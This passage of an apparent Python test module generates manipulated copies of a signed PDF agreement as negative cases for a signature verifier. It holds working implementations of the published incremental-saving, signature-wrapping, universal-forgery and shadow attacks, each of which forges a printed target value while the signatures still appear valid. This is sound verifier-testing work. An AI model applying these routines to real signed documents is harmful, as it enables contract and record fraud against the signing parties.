"""Manipulated signed agreements: the documents a verifier must never call VALID.

Every attack here is made for real, on the bytes of a good agreement (``pk-2026-dinkes`` signed
by both parties with the demo key store), with raw incremental updates (objects, a classic xref
section and a trailer appended by hand), in-place byte edits, or pyHanko. Attacks that work
*before* signing (shadow attacks) take the ready-to-sign PDF and the demo key store, plant their
payload, and have both parties sign it with `signer.sign.sign_document` (or, where `kinerja sign`
refuses the payload, with the same keys and no audit: another tool). Each function returns the
PDF bytes; none writes anywhere except :func:`revoked_signer`, which writes the key store that
the file must be verified against.

The classes are the published ones:

- ISA, SWA, USF: Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion Dollar
  Refund: How To Spoof PDF Signatures", ACM CCS 2019 (pdf-insecurity.org).
- Shadow attacks (hide, replace, hide-and-replace): Mainka, Mladenov, Rohlmann, "Shadow Attacks:
  Hiding and Replacing Content in Signed PDFs", NDSS 2021.
- Evil Annotation and Sneaky Signature: Rohlmann, Mladenov, Mainka, Schwenk, "Breaking the
  Specification: PDF Certification", IEEE S&P 2021.
- The rest (attachment swap, truncation, metadata, impersonation, weak algorithms, revocation) are
  the negative cases of the ETSI PAdES plugtests and of EN 319 102-1 (TOTAL-FAILED/INDETERMINATE).

The visible manipulation is the same wherever there is one: the yearly target of "Angka Kematian
Ibu" on the lampiran page, printed "85", becomes "95" (see :func:`target_run`).
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import random
import re
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pikepdf

if TYPE_CHECKING:
    from cryptography import x509
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko_certvalidator import ValidationContext

    from signer.demo_pki.pki import DemoPki, Issued
    from signer.model import Agreement, Peran
    from signer.sign.keys import Credential
    from signer.sign.pades import PadesSigner
    from signer.sign.services import Services

TARGET = "85"  # Target Tahunan of DINKES.01 (Angka Kematian Ibu), as printed on the lampiran
FORGED = "95"
PASSPHRASE = b"demo"
PIHAK_PERTAMA = "pihak-pertama"
PIHAK_KEDUA = "pihak-kedua"


# ---------------------------------------------------------------------------------------------
# The file's structure, read from the raw bytes


def last_startxref(data: bytes) -> int:
    """The offset the last ``startxref`` names (the file must end with ``%%EOF``)."""
    found = re.search(rb"startxref\s+(\d+)\s+%%EOF\s*\Z", data[-4096:])
    if not found:
        raise ValueError("no startxref/%%EOF at the end of the file")
    return int(found.group(1))


def _xref_sections(data: bytes) -> Iterable[tuple[int, dict[int, int | None], bytes]]:
    """Each classic xref section from the last one back: offset, entries, trailer text."""
    at: int | None = last_startxref(data)
    seen: set[int] = set()
    entry = re.compile(rb"(\d{10}) (\d{5}) ([nf])")
    subsection = re.compile(rb"\s*(\d+) (\d+)\s*?(?:\r\n|\r|\n)")
    while at is not None and at not in seen:
        seen.add(at)
        if not data.startswith(b"xref", at):
            raise ValueError(f"no classic xref table at {at} (xref streams are not handled)")
        pos = at + 4
        entries: dict[int, int | None] = {}
        while (sub := subsection.match(data, pos)) is not None:
            start, count = int(sub.group(1)), int(sub.group(2))
            pos = sub.end()
            for i in range(count):
                m = entry.match(data, pos)
                if m is None:
                    raise ValueError(f"bad xref entry at {pos}")
                entries[start + i] = int(m.group(1)) if m.group(3) == b"n" else None
                pos += 20
        end = data.index(b"startxref", pos)
        trailer = data[data.index(b"trailer", pos) : end]
        yield at, entries, trailer
        prev = re.search(rb"/Prev\s+(\d+)", trailer)
        at = int(prev.group(1)) if prev else None


def object_offsets(data: bytes) -> dict[int, int]:
    """Where the latest definition of each (in-use) object starts."""
    offsets: dict[int, int | None] = {}
    for _, entries, _ in _xref_sections(data):
        for num, where in entries.items():
            offsets.setdefault(num, where)
    return {num: where for num, where in offsets.items() if where is not None and num}


def _last_trailer(data: bytes) -> bytes:
    return next(iter(_xref_sections(data)))[2]


def _trailer_entry(trailer: bytes, key: bytes) -> bytes:
    pattern = {
        b"/Root": rb"/Root\s+(\d+\s+\d+\s+R)",
        b"/Info": rb"/Info\s+(\d+\s+\d+\s+R)",
        b"/ID": rb"/ID\s*(\[[^\]]*\])",
        b"/Size": rb"/Size\s+(\d+)",
    }[key]
    found = re.search(pattern, trailer)
    if not found:
        raise ValueError(f"the trailer has no {key.decode()}")
    return found.group(1)


def next_object_numbers(data: bytes, count: int) -> list[int]:
    size = int(_trailer_entry(_last_trailer(data), b"/Size"))
    return list(range(size, size + count))


def eof_ends(data: bytes) -> list[int]:
    """The end of each ``%%EOF`` line (after its end-of-line), in file order."""
    return [m.end() for m in re.finditer(rb"%%EOF(?:\r\n|\r|\n)?", data)]


def append_update(
    data: bytes,
    objects: Mapping[int, bytes],
    *,
    offsets: Mapping[int, int] | None = None,
    raw_prefix: bytes = b"",
) -> bytes:
    """An incremental update by hand: ``raw_prefix``, the objects, a classic xref, a trailer.

    ``objects`` maps object numbers (new or existing: an existing one is redefined) to the text
    between ``N 0 obj`` and ``endobj``. ``offsets`` adds xref entries for objects that live
    elsewhere in the file (an xref-only update). The trailer keeps /Root, /Info and /ID.
    """
    trailer = _last_trailer(data)
    prev = last_startxref(data)
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    out += raw_prefix
    table = dict(offsets or {})
    for num in sorted(objects):
        table[num] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (num, objects[num])
    size = max(int(_trailer_entry(trailer, b"/Size")), max(table) + 1)
    xref_at = len(out)
    out += b"xref\n"
    nums = sorted(table)
    run: list[int] = []
    for num in [*nums, -1]:
        if run and num != run[-1] + 1:
            out += b"%d %d\n" % (run[0], len(run))
            out += b"".join(b"%010d 00000 n \n" % table[n] for n in run)
            run = []
        run.append(num)
    out += b"trailer\n<< /Size %d /Root %s /Info %s /ID %s /Prev %d >>\n" % (
        size,
        _trailer_entry(trailer, b"/Root"),
        _trailer_entry(trailer, b"/Info"),
        _trailer_entry(trailer, b"/ID"),
        prev,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def stream_object(entries: bytes, payload: bytes, *, compress: bool = True) -> bytes:
    """The text of a stream object: ``entries`` (dictionary keys, without << >>) and data."""
    if compress:
        payload = zlib.compress(payload)
        entries += b" /Filter /FlateDecode"
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries.strip(), len(payload), payload)


def dict_text(obj: pikepdf.Object, changes: Mapping[str, bytes | None] | None = None) -> bytes:
    """A dictionary's text with some keys replaced (raw value text) or removed (None)."""
    changes = changes or {}
    parts = [
        pikepdf.Name(key).unparse() + b" " + unparse(value)
        for key, value in obj.items()
        if key not in changes
    ]
    parts += [pikepdf.Name(k).unparse() + b" " + v for k, v in changes.items() if v is not None]
    return b"<< " + b" ".join(parts) + b" >>"


def unparse(value: object) -> bytes:
    """Any pikepdf value's text; an indirect object as its reference."""
    return pikepdf.Array([value]).unparse()[1:-1].strip()


def ref(num: int) -> bytes:
    return b"%d 0 R" % num


def open_pdf(data: bytes) -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(data))


@dataclass(frozen=True)
class SignatureObject:
    """A signature (or document timestamp) dictionary as it sits in the file."""

    field: str
    number: int  # object number of the signature dictionary
    start: int  # offset of "N 0 obj"
    end: int  # offset just after its "endobj"
    byte_range: tuple[int, int, int, int]

    @property
    def gap(self) -> tuple[int, int]:
        """Where /Contents sits: from its "<" to just after its ">"."""
        return self.byte_range[1], self.byte_range[2]


def signature_objects(data: bytes) -> dict[str, SignatureObject]:
    """The filled signature fields by name (document timestamps too), in file order."""
    offsets = object_offsets(data)
    found: list[SignatureObject] = []
    with open_pdf(data) as pdf:
        for f in pdf.Root.AcroForm.Fields:
            if f.get("/FT") != "/Sig" or "/V" not in f:
                continue
            num = f.V.objgen[0]
            start = offsets[num]
            end = data.index(b"endobj", start) + len(b"endobj")
            br = re.search(rb"/ByteRange\s*\[\s*(\d+) (\d+) (\d+) (\d+)\s*\]", data[start:end])
            assert br is not None, f"signature {f.T} has no /ByteRange"
            byte_range = tuple(int(x) for x in br.groups())
            found.append(SignatureObject(str(f.T), num, start, end, byte_range))  # type: ignore[arg-type]
    return {s.field: s for s in sorted(found, key=lambda s: s.start)}


def last_signature(data: bytes) -> SignatureObject:
    return list(signature_objects(data).values())[-1]


# ---------------------------------------------------------------------------------------------
# Page content: where the target is printed, and how to print something else


@dataclass(frozen=True)
class TextRun:
    """One text-showing operator of a page's content stream, decoded."""

    page: int
    index: int  # position in pikepdf.parse_content_stream(page)
    font: str  # resource name, e.g. "/F2"
    size: float
    x: float
    y: float
    text: str


def to_unicode(font: pikepdf.Object) -> dict[int, str]:
    """A simple font's code -> text, from its /ToUnicode CMap (bfchar and bfrange)."""
    cmap = font.ToUnicode.read_bytes().decode("latin-1")
    out: dict[int, str] = {}
    for block in re.findall(r"beginbfchar(.*?)endbfchar", cmap, re.S):
        for code, text in re.findall(r"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block):
            out[int(code, 16)] = bytes.fromhex(text).decode("utf-16-be")
    for block in re.findall(r"beginbfrange(.*?)endbfrange", cmap, re.S):
        for lo, hi, text in re.findall(
            r"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block
        ):
            first = int(text, 16)
            for i, code in enumerate(range(int(lo, 16), int(hi, 16) + 1)):
                out[code] = chr(first + i)
    return out


def encode(font: pikepdf.Object, text: str) -> bytes:
    """The one-byte codes that show ``text`` in a subset font (every character must be there)."""
    codes = {t: c for c, t in to_unicode(font).items()}
    return bytes(codes[ch] for ch in text)


def text_runs(pdf: pikepdf.Pdf, page_index: int) -> list[TextRun]:
    """Every Tj/TJ of a page with its font, size and start point (translations only)."""
    page = pdf.pages[page_index]
    fonts = page.Resources.Font
    runs: list[TextRun] = []
    stack: list[tuple[float, float]] = []
    origin = (0.0, 0.0)
    line = (0.0, 0.0)
    font, size = "", 0.0
    for i, op in enumerate(pikepdf.parse_content_stream(page)):
        name, args = str(op.operator), list(op.operands)
        if name == "q":
            stack.append(origin)
        elif name == "Q":
            origin = stack.pop()
        elif name == "cm":
            origin = (origin[0] + float(args[4]), origin[1] + float(args[5]))
        elif name == "BT":
            line = (0.0, 0.0)
        elif name in ("Td", "TD"):
            line = (line[0] + float(args[0]), line[1] + float(args[1]))
        elif name == "Tm":
            line = (float(args[4]), float(args[5]))
        elif name == "Tf":
            font, size = str(args[0]), float(args[1])
        elif name in ("Tj", "TJ"):
            shown = [args[0]] if name == "Tj" else list(args[0])
            parts = [bytes(a) for a in shown if isinstance(a, pikepdf.String)]
            cmap = to_unicode(fonts[font])
            text = "".join(cmap.get(b, "\ufffd") for part in parts for b in part)
            x, y = origin[0] + line[0], origin[1] + line[1]
            runs.append(TextRun(page_index, i, font, size, x, y, text))
    return runs


def lampiran_page(pdf: pikepdf.Pdf) -> int:
    for i in range(len(pdf.pages)):
        if any("LAMPIRAN" in r.text for r in text_runs(pdf, i)):
            return i
    raise ValueError("no lampiran page")


def target_run(pdf: pikepdf.Pdf) -> TextRun:
    """The yearly target of the first indikator on the lampiran page (the first "85" there)."""
    page = lampiran_page(pdf)
    return next(r for r in text_runs(pdf, page) if r.text == TARGET)


def _glyph_width(pdf: pikepdf.Pdf, run: TextRun, text: str) -> float:
    font = pdf.pages[run.page].Resources.Font[run.font]
    first = int(font.FirstChar)
    widths = [float(w) for w in font.Widths]
    return sum(widths[c - first] for c in encode(font, text)) * run.size / 1000


def forged_content(pdf: pikepdf.Pdf) -> bytes:
    """The lampiran page's content stream with the target printed as FORGED."""
    run = target_run(pdf)
    page = pdf.pages[run.page]
    ops = list(pikepdf.parse_content_stream(page))
    code = encode(page.Resources.Font[run.font], FORGED)
    ops[run.index] = pikepdf.ContentStreamInstruction(
        [pikepdf.String(code)], pikepdf.Operator("Tj")
    )
    return pikepdf.unparse_content_stream(ops)


def overlay_content(pdf: pikepdf.Pdf, text: str = FORGED, *, at_origin: bool = False) -> bytes:
    """Paint white over the target and print ``text`` there, with the page's own font.

    ``at_origin``: drawn relative to the target's corner (for an annotation or field appearance
    whose box starts there) instead of in page space.
    """
    run = target_run(pdf)
    font = pdf.pages[run.page].Resources.Font[run.font]
    x, y = (2.0, 3.0) if at_origin else (run.x, run.y)
    width = max(_glyph_width(pdf, run, TARGET), _glyph_width(pdf, run, text)) + 2
    code = encode(font, text).hex().upper().encode()
    return (
        b"q 1 1 1 rg %.2f %.2f %.2f %.2f re f Q\n"
        b"q 0 0 0 rg BT %s %.1f Tf %.2f %.2f Td <%s> Tj ET Q\n"
        % (x - 1, y - 2.5, width, run.size + 2, run.font.encode(), run.size, x, y, code)
    )


def target_box(pdf: pikepdf.Pdf) -> tuple[float, float, float, float]:
    """A box around the printed target (page space), for annotations and fields over it."""
    run = target_run(pdf)
    width = max(_glyph_width(pdf, run, TARGET), _glyph_width(pdf, run, FORGED)) + 4
    return (run.x - 2, run.y - 3, run.x - 2 + width, run.y - 3 + run.size + 4)


def _font_resources(pdf: pikepdf.Pdf, run: TextRun) -> bytes:
    font = pdf.pages[run.page].Resources.Font[run.font]
    return b"<< /Font << %s %s >> >>" % (run.font.encode(), ref(font.objgen[0]))


def _form_xobject(pdf: pikepdf.Pdf, content: bytes, box: tuple[float, ...], run: TextRun) -> bytes:
    bbox = b" ".join(b"%.2f" % v for v in box)
    return stream_object(
        b"/Type /XObject /Subtype /Form /BBox [ %s ] /Resources %s"
        % (bbox, _font_resources(pdf, run)),
        content,
    )


# ---------------------------------------------------------------------------------------------
# Signing, for the attacks that need a signature made for them


def signing_setup(store: Path) -> PadesSigner:
    """An attacker's own signing tool over the demo store: it takes the key of the party's name
    whatever NIP the (forged) data gives, where kinerja's key store also matches the NIP."""
    from dataclasses import replace

    from signer.demo_pki import pki
    from signer.sign.keys import KeyStore
    from signer.sign.pades import PadesSigner
    from signer.sign.services import Services

    keys = KeyStore(store, PASSPHRASE)
    services = Services.demo(pki.load_demo_pki(store, PASSPHRASE))
    return PadesSigner(
        lambda a, role: keys.for_party(replace(a.pihak(role), nip=None), role), services
    )


def sign_agreement(
    prepared: bytes,
    store: Path,
    level: str = "B-LTA",
    roles: Iterable[str] = (PIHAK_PERTAMA, PIHAK_KEDUA),
) -> bytes:
    """Sign a prepared agreement the normal way (`kinerja sign`), role after role."""
    from signer.model import Peran
    from signer.sign.backend import Level
    from tests.helpers import sign_roles

    return sign_roles(prepared, store, [Peran(r) for r in roles], Level(level))


def sign_agreement_elsewhere(
    prepared: bytes,
    store: Path,
    level: str = "B-LTA",
    roles: Iterable[str] = (PIHAK_PERTAMA, PIHAK_KEDUA),
) -> bytes:
    """Sign a prepared agreement with the parties' own keys, but with a tool that has none of
    `kinerja sign`'s rules and audit: for planted payloads that `kinerja sign` itself refuses."""
    from signer.model import Peran
    from signer.sign.backend import Level
    from tests.helpers import sign_unchecked

    backend = signing_setup(store)
    for role in roles:
        prepared = sign_unchecked(prepared, backend, Peran(role), Level(level))
    return prepared


def credential_from(issued: Issued, chain: Iterable[x509.Certificate], source: str) -> Credential:
    """A signing credential from a certificate and key of :mod:`signer.pki` (cryptography)."""
    from pyhanko_certvalidator.registry import SimpleCertificateStore

    from signer.demo_pki.responders import to_asn1_cert, to_asn1_key
    from signer.sign.keys import CachedKeySigner, Credential

    signer = CachedKeySigner(
        signing_cert=to_asn1_cert(issued.cert),
        signing_key=to_asn1_key(issued.key),
        cert_registry=SimpleCertificateStore.from_certs([to_asn1_cert(c) for c in chain]),
    )
    return Credential(signer, source)


def _demo_issued(
    store: Path,
    subject: x509.Name,
    key: object,
    source: str,
    eku: list[x509.ObjectIdentifier] | None = None,
) -> Credential:
    """A credential whose certificate the demo store's trusted intermediate really issued."""
    from signer.demo_pki import pki

    authority = pki.load_demo_pki(store, PASSPHRASE)
    issued = pki._issue(
        subject,
        key,  # type: ignore[arg-type]
        authority.intermediate,
        now=dt.datetime.now(dt.UTC),
        days=730,
        eku=eku,
        crl_url=pki.INTERMEDIATE_CRL_URL,
        ocsp_url=pki.OCSP_URL,
    )
    return credential_from(issued, authority.chain, source)


def demo_services(authority: DemoPki) -> Services:
    """TSA and revocation answers of a demo PKI held in memory (its ``revoked`` is honoured)."""
    from signer.demo_pki.responders import DemoTimeStamper, demo_validation_context, to_asn1_cert
    from signer.sign.services import Services

    return Services(
        DemoTimeStamper(authority),
        lambda: demo_validation_context(authority),
        [to_asn1_cert(authority.root.cert)],
    )


def sign_field_directly(
    data: bytes,
    field: str,
    credential: Credential,
    services: Services,
    level: str = "B-LTA",
    *,
    md_algorithm: str | None = None,
    as_role: str | None = None,
    validation_context: ValidationContext | None = None,
    key_usage: set[str] | None = None,
) -> bytes:
    """Approve ``field`` with pyHanko as `kinerja sign` signs pihak kedua, without its refusals.

    The visible stamp is the one of the party the agreement names for ``as_role`` (default:
    ``field``), so the page looks as usual whoever really signs.
    """
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.sign import signers
    from pyhanko.sign.fields import MDPPerm, SigSeedSubFilter

    from signer.canonical import verification_payload
    from signer.embedded import read_embedded
    from signer.model import Peran
    from signer.sign.rules import signature_fields
    from signer.sign.stamp import stamp

    reader = PdfFileReader(io.BytesIO(data))
    embedded = read_embedded(reader.root)
    a = embedded.agreement
    role = Peran(as_role or field)
    level_long = level in ("B-LT", "B-LTA")
    meta = signers.PdfSignatureMetadata(
        field_name=field,
        md_algorithm=md_algorithm,
        certify=False,
        docmdp_permissions=MDPPerm.FILL_FORMS,
        subfilter=SigSeedSubFilter.PADES,
        reason=f"{a.jenis.judul} Tahun {a.tahun} {a.unit.nama}: ditandatangani sebagai "
        f"{role.value.replace('-', ' ')}",
        location=a.tempat,
        name=credential.holder,
        embed_validation_info=level_long,
        signer_key_usage=key_usage or {"non_repudiation"},
        use_pades_lta=level == "B-LTA",
        validation_context=(validation_context or services.validation_context())
        if level_long
        else None,
    )
    box = signature_fields(reader)[field].box
    visible = stamp(
        a.pihak(role),
        dt.datetime.now(dt.UTC),
        a.zona_waktu,
        box,
        verification_payload(a, embedded.sha256) + f":{role.value}",
    )
    pdf_signer = signers.PdfSigner(
        meta,
        credential.signer,
        timestamper=services.timestamper if level != "B-B" else None,
        stamp_style=visible.style,
    )
    out = io.BytesIO()
    pdf_signer.sign_pdf(
        IncrementalPdfFileWriter(io.BytesIO(data)),
        existing_fields_only=True,
        appearance_text_params=visible.params,
        output=out,
    )
    return out.getvalue()


# ---------------------------------------------------------------------------------------------
# 1. Incremental saving attacks (ISA)


def isa_change_target(good: bytes) -> bytes:
    """ISA (CCS 2019): an incremental update redefines the lampiran's content, 85 -> 95."""
    with open_pdf(good) as pdf:
        run = target_run(pdf)
        contents = pdf.pages[run.page].obj.Contents
        return append_update(good, {contents.objgen[0]: stream_object(b"", forged_content(pdf))})


def isa_overlay(good: bytes) -> bytes:
    """ISA (CCS 2019): an incremental update adds a content stream painting 95 over 85."""
    with open_pdf(good) as pdf:
        run = target_run(pdf)
        page = pdf.pages[run.page].obj
        [overlay] = next_object_numbers(good, 1)
        contents = b"[ %s %s ]" % (ref(page.Contents.objgen[0]), ref(overlay))
        return append_update(
            good,
            {
                overlay: stream_object(b"", overlay_content(pdf)),
                page.objgen[0]: dict_text(page, {"/Contents": contents}),
            },
        )


def isa_objects_without_xref(good: bytes) -> bytes:
    """ISA variant (CCS 2019): a redefined content stream appended with no xref.

    The tail is longer than 1 KiB, so ``startxref`` is no longer near the end of the file: qpdf
    (pikepdf) repairs it by scanning and renders the later definition (95); poppler shows the
    signed revision (85) and says both signatures are valid; pyHanko cannot open it.
    """
    with open_pdf(good) as pdf:
        run = target_run(pdf)
        num = pdf.pages[run.page].obj.Contents.objgen[0]
        body = stream_object(b"", forged_content(pdf), compress=False)
    return good + b"%d 0 obj\n%s\nendobj\n%% padding\n" % (num, body)


# ---------------------------------------------------------------------------------------------
# 2. Signature wrapping attacks (SWA)


def swa_relocated_tail(good: bytes, field: str = PIHAK_KEDUA) -> bytes:
    """SWA (CCS 2019): /ByteRange re-pointed at a moved copy of the signed tail.

    A new revision redefines the signature dictionary with ``/ByteRange [0 a c* d]``, ``c*`` a copy
    of the signed tail placed at the start of the update; the same revision forges the target
    (85 -> 95). The digest over the declared ranges still matches.
    """
    sig = signature_objects(good)[field]
    _, a, b, d = sig.byte_range
    tail = good[b : b + d]
    base = good if good.endswith(b"\n") else good + b"\n"
    moved = len(base)  # the copy of the signed tail goes first in the update
    original = good[sig.start : sig.end]
    body = original[original.index(b"<<") : original.rindex(b"endobj")].rstrip()
    body = re.sub(
        rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 %d %d %d]" % (a, moved, d), body, count=1
    )
    with open_pdf(good) as pdf:
        contents = pdf.pages[lampiran_page(pdf)].obj.Contents.objgen[0]
        forged = stream_object(b"", forged_content(pdf))
    return append_update(base, {sig.number: body, contents: forged}, raw_prefix=tail + b"\n")


def swa_objects_in_gap(good: bytes, field: str | None = None) -> bytes:
    """SWA (CCS 2019): objects hidden in the /Contents padding, live by an xref-only update.

    The last signature's /Contents is cut down to its DER; the rest of the gap holds the signature
    dictionary's tail, a forged page object and an overlay stream (95 over 85). The update after it
    has no objects at all, only xref entries pointing into the gap.
    """
    sig = signature_objects(good)[field] if field else last_signature(good)
    _, a, b, _ = sig.byte_range
    gap = good[a:b]
    der_hex = _der_hex(gap)
    dict_rest = good[b : good.index(b"endobj", b)]  # "/ByteRange [...] ... >>\n"
    with open_pdf(good) as pdf:
        run = target_run(pdf)
        page = pdf.pages[run.page].obj
        overlay_num, dummy = next_object_numbers(good, 2)
        contents = b"[ %s %s ]" % (ref(page.Contents.objgen[0]), ref(overlay_num))
        objects = {
            overlay_num: stream_object(b"", overlay_content(pdf), compress=False),
            page.objgen[0]: dict_text(page, {"/Contents": contents}),
        }
    new_gap = bytearray(b"<" + der_hex + b">" + dict_rest + b"endobj\n")
    offsets: dict[int, int] = {}
    for num, body in objects.items():
        offsets[num] = a + len(new_gap)
        new_gap += b"%d 0 obj\n%s\nendobj\n" % (num, body)
    new_gap += b"%d 0 obj\n<< /Padding <" % dummy
    room = len(gap) - len(new_gap) - 1
    if room < 0:
        raise ValueError(f"the /Contents gap of {sig.field} is too small for the payload")
    new_gap += b"0" * room + b">"
    assert len(new_gap) == len(gap)
    data = good[:a] + bytes(new_gap) + good[b:]
    return append_update(data, {}, offsets=offsets)


def _der_hex(gap: bytes) -> bytes:
    """The hex of the DER signature at the start of a /Contents gap, without its padding."""
    raw = bytes.fromhex(gap[1:-1].decode())
    if raw[0] != 0x30:
        raise ValueError("/Contents does not hold a DER SEQUENCE")
    if raw[1] < 0x80:
        length = 2 + raw[1]
    else:
        n = raw[1] & 0x7F
        length = 2 + n + int.from_bytes(raw[2 : 2 + n], "big")
    return raw[:length].hex().upper().encode()


# ---------------------------------------------------------------------------------------------
# 3. Universal signature forgery (USF)


def _usf(
    good: bytes, field: str, incremental: bool, change: Callable[[bytes, int], bytes]
) -> bytes:
    """Apply ``change(dict_text, gap_offset_in_dict)`` to a signature dictionary, in place
    (same length, so every offset stays right) or as a new revision that also forges 85 -> 95."""
    sig = signature_objects(good)[field]
    original = good[sig.start : sig.end]
    changed = change(original, sig.byte_range[1] - sig.start)
    if not incremental:
        assert len(changed) == len(original)
        return good[: sig.start] + changed + good[sig.end :]
    body = changed[changed.index(b"<<") : changed.rindex(b"endobj")].rstrip()
    with open_pdf(good) as pdf:
        contents = pdf.pages[lampiran_page(pdf)].obj.Contents.objgen[0]
        forged = stream_object(b"", forged_content(pdf))
    return append_update(good, {sig.number: body, contents: forged})


def _same_length(old: bytes, new: bytes) -> bytes:
    assert len(new) <= len(old)
    return new + b" " * (len(old) - len(new))


def _replace_byte_range(text: bytes, new: bytes) -> bytes:
    m = re.search(rb"/ByteRange\s*\[[^\]]*\]", text)
    assert m is not None
    return text[: m.start()] + _same_length(m.group(0), new) + text[m.end() :]


def _replace_contents(text: bytes, at: int, new_inner: Callable[[int], bytes]) -> bytes:
    end = text.index(b">", at) + 1
    inner = new_inner(end - at - 2)
    return text[:at] + _same_length(text[at:end], b"<" + inner + b">") + text[end:]


def usf_byterange_removed(
    good: bytes, field: str = PIHAK_KEDUA, incremental: bool = False
) -> bytes:
    """USF (CCS 2019): the signature dictionary loses its /ByteRange."""
    return _usf(good, field, incremental, lambda t, at: _replace_byte_range(t, b""))


def usf_byterange_zero(good: bytes, field: str = PIHAK_KEDUA, incremental: bool = False) -> bytes:
    """USF (CCS 2019): /ByteRange [0 0 0 0]."""
    return _usf(
        good, field, incremental, lambda t, at: _replace_byte_range(t, b"/ByteRange [0 0 0 0]")
    )


def usf_contents_empty(good: bytes, field: str = PIHAK_KEDUA, incremental: bool = False) -> bytes:
    """USF (CCS 2019): /Contents <> (empty)."""
    return _usf(good, field, incremental, lambda t, at: _replace_contents(t, at, lambda n: b""))


def usf_contents_zeroed(good: bytes, field: str = PIHAK_KEDUA, incremental: bool = False) -> bytes:
    """USF (CCS 2019): /Contents all zeros, same length."""
    return _usf(
        good, field, incremental, lambda t, at: _replace_contents(t, at, lambda n: b"0" * n)
    )


def usf_contents_garbage(good: bytes, field: str = PIHAK_KEDUA, incremental: bool = False) -> bytes:
    """USF (CCS 2019): /Contents replaced by random hex of the same length."""
    rng = random.Random(20190911)
    return _usf(
        good,
        field,
        incremental,
        lambda t, at: _replace_contents(
            t, at, lambda n: bytes(rng.choice(b"0123456789ABCDEF") for _ in range(n))
        ),
    )


# ---------------------------------------------------------------------------------------------
# 4. Shadow attacks (prepared before signing, revealed after)


def shadow_hide(prepared: bytes, store: Path) -> bytes:
    """Shadow hide (NDSS 2021): 95 is signed under a cover XObject, emptied after signing.

    The cover reprints 85 on white, so both parties sign a page showing 85.
    """
    with open_pdf(prepared) as pdf:
        run = target_run(pdf)
        page = pdf.pages[run.page].obj
        cover, malicious, invoke = next_object_numbers(prepared, 3)
        box = (0.0, 0.0, float(page.MediaBox[2]), float(page.MediaBox[3]))
        resources = page.Resources
        xobjects = dict(resources.get("/XObject", {}).items())
        xobject_text = b"<< %s /Cover %s >>" % (
            b" ".join(pikepdf.Name(k).unparse() + b" " + unparse(v) for k, v in xobjects.items()),
            ref(cover),
        )
        objects = {
            cover: _form_xobject(pdf, overlay_content(pdf, TARGET), box, run),
            malicious: stream_object(b"", overlay_content(pdf, FORGED)),
            invoke: stream_object(b"", b"q /Cover Do Q\n"),
            resources.objgen[0]: dict_text(resources, {"/XObject": xobject_text}),
            page.objgen[0]: dict_text(
                page,
                {
                    "/Contents": b"[ %s %s %s ]"
                    % (ref(page.Contents.objgen[0]), ref(malicious), ref(invoke))
                },
            ),
        }
        empty_cover = _form_xobject(pdf, b"", box, run)
    # `kinerja sign` refuses the planted page (text drawn through a form and painted over)
    signed = sign_agreement_elsewhere(append_update(prepared, objects), store)
    return append_update(signed, {cover: empty_cover})


def shadow_replace_form(prepared: bytes, store: Path) -> bytes:
    """Shadow replace (NDSS 2021): a text field over 85, empty when signed, says 95 after."""
    with open_pdf(prepared) as pdf:
        run = target_run(pdf)
        page = pdf.pages[run.page].obj
        box = target_box(pdf)
        rect = b"[ %s ]" % b" ".join(b"%.2f" % v for v in box)
        bbox = (0.0, 0.0, box[2] - box[0], box[3] - box[1])
        [field] = next_object_numbers(prepared, 1)
        form = pdf.Root.AcroForm
        fields = b"[ %s %s ]" % (b" ".join(unparse(f) for f in form.Fields), ref(field))

        def widget(value: bytes, appearance: bytes) -> bytes:
            return (
                b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (catatan) /F 4 /Rect %s /P %s "
                b"/DA (%s %.1f Tf 0 g) /V %s %s >>"
                % (rect, ref(page.objgen[0]), run.font.encode(), run.size, value, appearance)
            )

        annots = [unparse(a) for a in page.get("/Annots", [])]
        # no appearance yet: pyHanko would take the document timestamp's revision for a change
        # of the (locked) field's appearance stream
        before = {
            field: widget(b"()", b""),
            form.objgen[0]: dict_text(form, {"/Fields": fields}),
            page.objgen[0]: dict_text(
                page, {"/Annots": b"[ %s ]" % b" ".join([*annots, ref(field)])}
            ),
        }
        appearance = _form_xobject(pdf, overlay_content(pdf, at_origin=True), bbox, run)
    # `kinerja sign` refuses a document with a form field that is not a signature: the parties
    # sign it with another tool
    signed = sign_agreement_elsewhere(append_update(prepared, before), store)
    [filled] = next_object_numbers(signed, 1)
    after = {
        field: widget(b"(%s)" % FORGED.encode(), b"/AP << /N %s >>" % ref(filled)),
        filled: appearance,
    }
    return append_update(signed, after)


def shadow_hide_and_replace(prepared: bytes, store: Path) -> bytes:
    """Shadow hide-and-replace (NDSS 2021): an unreferenced forged content stream.

    Signed by both parties while unused; after both signatures an update only swaps the lampiran
    page's /Contents to it.
    """
    with open_pdf(prepared) as pdf:
        run = target_run(pdf)
        page = pdf.pages[run.page].obj
        [shadow] = next_object_numbers(prepared, 1)
        objects = {shadow: stream_object(b"", forged_content(pdf))}
        swapped = dict_text(page, {"/Contents": ref(shadow)})
    signed = sign_agreement(append_update(prepared, objects), store)
    return append_update(signed, {page.objgen[0]: swapped})


def shadow_replace_font(good: bytes) -> bytes:
    """Shadow replace via font (NDSS 2021): after signing, the font's 8 and 9 swapped.

    85 then renders as 95 (and 95 as 85); text extraction still says 85.
    """
    from fontTools.ttLib import TTFont

    with open_pdf(good) as pdf:
        run = target_run(pdf)
        font = pdf.pages[run.page].Resources.Font[run.font]
        file_stream = font.FontDescriptor.FontFile2
        tt = TTFont(io.BytesIO(file_stream.read_bytes()))
        codes = {t: c for c, t in to_unicode(font).items()}
        glyph = {}
        for ch in "89":
